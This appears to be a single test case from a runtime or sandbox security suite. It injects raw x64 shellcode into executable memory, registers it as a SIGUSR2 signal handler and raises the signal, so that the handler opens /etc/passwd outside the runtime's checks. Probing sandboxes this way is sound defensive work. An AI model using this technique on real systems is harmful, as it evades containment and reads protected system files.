// attack: Reads a file from a handler that the kernel calls, past the runtime.
// group: threads
// at none: gets-through
// uses: native
// needs: x64

// mov rdi,path; xor esi,esi; mov eax,2; syscall; mov [answer],eax by way of rcx; ret. The C library's signal() sets the handler for SIGUSR2.
var (path, answer) = (Native.Text("/etc/passwd"), Native.Words(-1));
var code = Native.Call(9, 0, 4096, 7, 0x22, -1, 0);
byte[] handler = [0x48, 0xBF, .. BitConverter.GetBytes(path), 0x31, 0xF6, 0xB8, 2, 0, 0, 0, 0x0F, 0x05, 0x48, 0xB9, .. BitConverter.GetBytes(answer), 0x48, 0x89, 0x01, 0xC3];
Marshal.Copy(handler, 0, (nint)code, handler.Length);
Native.Invoke("signal", 12, code);
Native.Call(234, Environment.ProcessId, Native.Call(186), 12);
Native.Read(Native.Word(answer))
